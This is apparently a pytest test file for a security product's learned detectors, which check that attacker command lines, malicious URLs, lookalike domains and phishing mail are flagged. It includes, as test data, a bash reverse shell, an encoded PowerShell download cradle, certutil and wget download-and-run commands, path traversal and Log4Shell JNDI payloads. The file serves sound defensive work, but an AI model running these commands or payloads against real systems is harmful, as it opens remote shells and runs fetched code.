"""Learned detectors: what they say, that it adds up, and that nothing from outside breaks or blinds them."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchfloor.content import folder
from watchfloor.core.errors import WatchfloorError
from watchfloor.core.event import Event
from watchfloor.core.signal import Signal
from watchfloor.detect import Detector
from watchfloor.detect.learned import Learned, Model
from watchfloor.detect.learned.kinds import kinds
from watchfloor.detect.learned.learned import Judge

NAMES = tuple(kind.name for kind in kinds())
JUDGES = {judge.kind.name: judge for judge in Learned.shipped().judges}


def event(**ocsf: Any) -> Event:
    return Event(
        tenant="default", uid="e1", time=1, layer="endpoint", mapping="base", ocsf=ocsf, original={}, source="s",
        position=0, unit="line", logsource={},
    )  # fmt: skip


def command(line: str) -> list[Signal]:
    return Learned.shipped().signals(event(process={"cmd_line": line}))


def domain(host: str, own: tuple[str, ...] = ()) -> list[Signal]:
    return Learned.shipped(own).signals(event(query={"hostname": host}))


def url(text: str) -> list[Signal]:
    return Learned.shipped().signals(event(http_request={"url": {"url_string": text}}))


def mail(subject: str, body: str) -> list[Signal]:
    return Learned.shipped().signals(event(email={"subject": subject}, unmapped={"body": body}))


ENCODED = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le"))


@pytest.mark.parametrize(
    "line",
    [
        f"powershell -nop -w hidden -enc {ENCODED.decode()}",
        r"certutil -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        r"rundll32.exe C:\Users\Public\x.dll,Start",
        "wget -q http://203.0.113.9/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
    ],
)
def test_commands_of_attackers_are_said_with_what_counted(line: str) -> None:
    (signal,) = command(line)
    assert signal.member == "learned/command_line"
    assert 0.8 < signal.strength <= 1
    assert signal.parts
    assert any(text in line.lower() or "base64" in text or "folder" in text for text, _ in signal.parts)
    assert signal.parts[0][0] in signal.said or signal.parts[0][1] < 0


@pytest.mark.parametrize(
    "line",
    [
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        "git status",
        "/usr/sbin/nginx -g daemon on; master_process on;",
        "ipconfig /all",
        r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\ana\Documents\plan.docx"',
        "kubectl get pods -n shop",
    ],
)
def test_ordinary_commands_say_nothing(line: str) -> None:
    assert command(line) == []


def test_domains_made_by_algorithms_and_imitations_are_told_apart() -> None:
    (made,) = domain("xkqjzvwpqltrd.com")
    assert made.subject == "domain:xkqjzvwpqltrd.com"
    assert "algorithm" in made.said
    for host in ("paypa1.com", "rnicrosoft.com", "login-microsoft.com", "microsoft.com.secure-area.xyz"):
        (signal,) = domain(host)
        assert "imitates" in signal.said, host


@pytest.mark.parametrize(
    "host",
    [
        "www.wikipedia.org",
        "nordwerk.de",
        "d111111abcdef8.cloudfront.net",
        "printer.local",
        "4.3.2.1.in-addr.arpa",
        "10.0.0.1",
    ],
)
def test_ordinary_domains_say_nothing(host: str) -> None:
    assert domain(host) == []


def test_the_owners_own_domains_may_be_imitated_and_are_no_imitation() -> None:
    own = ("nordwerk.example",)
    assert domain("nordwerk-login.com") == []
    (signal,) = domain("nordwerk-login.com", own)
    assert "imitates" in signal.said
    assert domain("portal.nordwerk.example", own) == []


def test_urls_of_attacks_are_said_and_ordinary_ones_are_not() -> None:
    for text in (
        "http://203.0.113.9/bins/x.exe",
        "/index.php?page=../../../../etc/passwd",
        "/?x=${jndi:ldap://203.0.113.9/a}",
        "/?x=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D",
    ):
        (signal,) = url(text)
        assert signal.member == "learned/url"
        assert signal.subject == f"url:{text}"
    for text in ("https://github.com/SigmaHQ/sigma", "/search?q=cats", "https://www.example.com/"):
        assert url(text) == []


def test_mail_of_fraud_is_said_and_ordinary_mail_is_not() -> None:
    lure = (
        "Dear user, your mailbox is full. Click here https://a.example/x to verify your account and confirm your "
        "password immediately or it will be suspended. Act now!"
    )
    (signal,) = mail("Your account", lure)
    assert signal.member == "learned/mail"
    assert all(text in lure.lower() or " " in text for text, _ in signal.parts)
    assert mail("Lunch", "Do you want to have lunch at noon? I am in the office today and tomorrow.") == []


def test_links_of_a_mail_are_judged_each_once() -> None:
    links = [{"url_string": "http://203.0.113.9/a.exe"}] * 3 + [{"url_string": "https://example.com/"}]
    found = Learned.shipped().signals(event(email={"urls": links}))
    assert [signal.subject for signal in found] == ["url:http://203.0.113.9/a.exe"]


@given(st.sampled_from(NAMES), st.text(max_size=400))
def test_contributions_add_up_to_the_log_odds_exactly(name: str, text: str) -> None:
    judge = JUDGES[name]
    pieces = judge.kind.pieces(text)
    weighed = judge.model.weigh(pieces)
    assert weighed.bias + sum(weight for _, weight in weighed.parts) == weighed.log_odds == judge.model.log_odds(pieces)
    assert [abs(weight) for _, weight in weighed.parts] == sorted((abs(w) for _, w in weighed.parts), reverse=True)
    assert 0 <= weighed.probability <= 1


_HOSTILE = (
    "a" * 1_000_000, "\0" * 5_000 + "x", "\ud800" * 300 + "/a.b", "1," * 50_000, "<" * 100_000, "%25" * 50_000 + "/x",
    "http://" + "a." * 3_000, "http://[::1", "http://x:99999999/a", "xn--" * 60 + ".com", "http://\u2100.com/x",
    "\n>" * 9_000, "а" * 250 + ".рф", "Zm9v" * 5_000, "'+'" * 9_000,
)  # fmt: skip


@pytest.mark.parametrize("text", _HOSTILE, ids=range(len(_HOSTILE)))
def test_hostile_values_are_judged_like_others(text: str) -> None:
    for found in (command(text), domain(text), url(text), mail(text, text)):
        for signal in found:
            assert 0 <= signal.strength <= 1
            signal.said.encode()  # what is said can be written anywhere
            assert all(len(part) <= 80 for part, _ in signal.parts)


@given(
    st.text(max_size=200),
    st.one_of(st.none(), st.integers(), st.lists(st.integers()), st.dictionaries(st.text(), st.none())),
)
def test_any_event_can_be_asked(text: str, other: Any) -> None:
    learned = Learned.shipped()
    for ocsf in (
        {"process": {"cmd_line": text}, "query": {"hostname": text}, "url": {"url_string": text}},
        {"process": other, "query": {"hostname": other}, "email": other, "http_request": {"url": other}},
        {"email": {"subject": other, "urls": [other, {"url_string": other}]}, "unmapped": other, "script": [other]},
    ):
        assert isinstance(learned.signals(event(**ocsf)), list)


def test_padding_hides_nothing() -> None:
    line = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    assert command(" " * 100_000 + line)
    assert command(line + " " * 100_000)
    assert command("ls;" + " " * 100_000 + line)


def test_what_is_remembered_is_what_was_judged() -> None:
    line = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    assert command(line) == command(line) == [JUDGES["command_line"].judge(line)]


@pytest.mark.parametrize("name", NAMES)
def test_artifacts_say_what_they_are(name: str) -> None:
    file = folder("learned") / f"{name}.json"
    data = orjson.loads(file.read_bytes())
    assert file.stat().st_size < 400_000
    assert data["name"] == name
    assert data["version"] >= 1
    assert len(data["date"]) == 10
    assert all(source["good"] + source["bad"] > 0 and source["sha256"] for source in data["trained_on"].values())
    assert 0.5 < data["held_out"]["auc"] <= 1
    assert 0 < data["threshold"]["false_positives"] <= 0.02
    assert all(isinstance(weight, int) and weight for weight in data["weights"].values())
    assert data["hashed"] is (name == "mail")
    if data["hashed"]:
        assert all(len(key) == 8 and int(key, 16) >= 0 for key in data["weights"])


def test_a_model_that_is_missing_or_broken_is_an_error_and_not_silence(tmp_path: Path) -> None:
    kind = next(kind for kind in kinds() if kind.name == "command_line")
    with pytest.raises(WatchfloorError, match="cannot be read"):
        Learned([Judge(kind, tmp_path / "none.json")]).signals(event(process={"cmd_line": "git status"}))
    for content in (b"{", b"[]", b'{"name": "x"}'):
        file = tmp_path / "broken.json"
        file.write_bytes(content)
        with pytest.raises(WatchfloorError, match="not a learned detector"):
            Model.load(file)


def test_what_an_alert_quotes_is_judged_too() -> None:
    line = f"powershell -nop -w hidden -enc {ENCODED.decode()}"
    (quoted,) = Learned.shipped().signals(event(evidences=[{"data": {}}, {"process": {"cmd_line": line}}]))
    assert [quoted] == command(line)
    for hostile in (None, "x", [None, "x", [], {"process": line}]):
        assert Learned.shipped().signals(event(evidences=hostile)) == []


def test_the_detector_asks_them() -> None:
    examined = Detector.load([]).examine(
        event(process={"cmd_line": f"powershell -nop -w hidden -enc {ENCODED.decode()}"})
    )
    said = [part.member for finding in examined.findings if finding.risk for part in finding.risk.parts]
    assert "learned/command_line" in said
